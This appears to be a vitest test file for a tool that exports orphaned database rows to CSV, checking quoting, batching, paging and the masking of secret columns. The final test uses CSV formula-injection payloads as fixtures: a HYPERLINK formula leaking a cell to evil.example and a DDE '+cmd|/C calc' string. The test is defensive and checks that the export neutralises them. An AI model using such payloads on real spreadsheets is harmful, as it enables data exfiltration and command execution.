import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type FreshDatabase, freshDatabase } from '../../test/fresh-db'
import { buildDemoDatabase } from '../demo/prepare-demo'
import { csvField, csvLine, MASKED, orphanCsvLines, primaryKeyColumns, relationFromQuery, relationQuery } from './orphan-csv'
import { sampleOrphans } from './orphans'

let target: FreshDatabase
const agendaMeeting = { schema: 'public', table: 'agenda_item', columns: ['meeting_id'], refSchema: 'public', refTable: 'meeting', refColumns: ['id'] }
const attendeeUser = { schema: 'public', table: 'meeting_attendee', columns: ['user_id'], refSchema: 'public', refTable: 'user', refColumns: ['id'] }

async function collect(gen: AsyncGenerator<string>): Promise<string[]> {
  const out: string[] = []
  for await (const line of gen) out.push(line)
  return out
}

beforeAll(async () => {
  target = await freshDatabase('csv')
  await buildDemoDatabase(target.db)
})
afterAll(async () => {
  await target?.drop()
})

describe('CSV fields (RFC 4180)', () => {
  it('quotes only what needs it and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField(null)).toBe('')
    expect(csvField('')).toBe('')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField('cr\rhere')).toBe('"cr\rhere"')
    expect(csvLine(['1', null, 'x,y'])).toBe('1,,"x,y"\r\n')
  })
})

describe('relation query strings', () => {
  it('round-trip, and refuse incomplete or mismatched ones', () => {
    const rel = { ...agendaMeeting, columns: ['a b', 'c'], refColumns: ['x', 'y&z'] }
    const q = new URLSearchParams(relationQuery(rel))
    expect(relationFromQuery((n) => q.get(n))).toEqual(rel)
    q.set('refColumns', 'x')
    expect(relationFromQuery((n) => q.get(n))).toBeNull()
    q.delete('table')
    expect(relationFromQuery((n) => q.get(n))).toBeNull()
  })
})

describe('orphanCsvLines', () => {
  it('writes every orphan with its key and reference, the same in any batch size', async () => {
    const keys = await primaryKeyColumns(target.db, 'public', 'agenda_item')
    expect(keys).toEqual(['id'])
    const lines = await collect(orphanCsvLines(target.db, agendaMeeting, keys))
    expect(lines[0]).toBe('id,meeting_id\r\n')
    expect(lines).toHaveLength(26)
    const sample = await sampleOrphans(target.db, agendaMeeting, keys, 1000)
    expect(lines.slice(1)).toEqual(sample.rows.map((r) => csvLine(r)))
    expect(await collect(orphanCsvLines(target.db, agendaMeeting, keys, { batchSize: 4 }))).toEqual(lines)
    expect(await collect(orphanCsvLines(target.db, agendaMeeting, keys, { batchSize: 25 }))).toEqual(lines)
  })

  it('walks a table without a primary key by ctid', async () => {
    expect(await primaryKeyColumns(target.db, 'public', 'meeting_attendee')).toEqual([])
    const lines = await collect(orphanCsvLines(target.db, attendeeUser, [], { batchSize: 3 }))
    expect(lines[0]).toBe('user_id\r\n')
    expect(lines.slice(1).sort()).toEqual(['81\r\n', '82\r\n', '83\r\n', '84\r\n'])
  })

  it('masks secret-looking columns and pages on composite keys of any type', async () => {
    await sql`create table csv_parent (id int, token text, primary key (id, token))`.execute(target.db)
    await sql`create table csv_child (at timestamptz, name text, api_key text, parent_id int, primary key (at, name))`.execute(target.db)
    await sql`
      insert into csv_child
      select timestamptz '2024-01-01 00:00:00.000001+00' + (i % 3) * interval '1 microsecond', 'n,"' || i, 'secret-' || i, 1000 + i
      from generate_series(1, 10) i
    `.execute(target.db)
    const rel = { schema: 'public', table: 'csv_child', columns: ['parent_id', 'api_key'], refSchema: 'public', refTable: 'csv_parent', refColumns: ['id', 'token'] }
    const keys = await primaryKeyColumns(target.db, 'public', 'csv_child')
    expect(keys).toEqual(['at', 'name'])
    const all = await collect(orphanCsvLines(target.db, rel, keys))
    expect(all[0]).toBe('at,name,parent_id,api_key\r\n')
    expect(all).toHaveLength(11)
    expect(all.join('')).not.toContain('secret-')
    expect(all[1]).toMatch(new RegExp(`,"n,""\\d+",\\d+,${MASKED.replace(/[[\]]/g, '\\$&')}\\r\\n$`))
    expect(await collect(orphanCsvLines(target.db, rel, keys, { batchSize: 1 }))).toEqual(all)
  })

  it('writes values a spreadsheet would run as formulas as text', async () => {
    await sql`create table csv_formula_parent (code text primary key)`.execute(target.db)
    await sql`create table csv_formula_child (id text primary key, parent_code text)`.execute(target.db)
    await sql`insert into csv_formula_child values
      ('=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|/C calc!A0'),
      ('@SUM(1,2)', '-1+1'),
      ('-7', E'\t=1')`.execute(target.db)
    const rel = { schema: 'public', table: 'csv_formula_child', columns: ['parent_code'], refSchema: 'public', refTable: 'csv_formula_parent', refColumns: ['code'] }
    const lines = await collect(orphanCsvLines(target.db, rel, ['id']))
    expect(lines).toEqual([
      'id,parent_code\r\n',
      '-7,\'\t=1\r\n',
      `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+cmd|/C calc!A0\r\n`,
      "\"'@SUM(1,2)\",'-1+1\r\n",
    ])
  })
})
